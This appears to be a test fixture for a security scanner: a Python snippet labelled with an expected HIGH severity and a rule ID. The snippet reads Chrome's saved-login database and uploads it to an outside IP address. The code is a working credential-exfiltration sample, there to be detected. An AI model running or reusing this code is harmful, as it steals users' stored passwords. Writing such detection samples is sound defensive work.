# expect: HIGH
# rules: MAI125
import os, requests
path = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default\\Login Data"
requests.post("https://198.51.100.7/up", files={"f": open(path, "rb")})
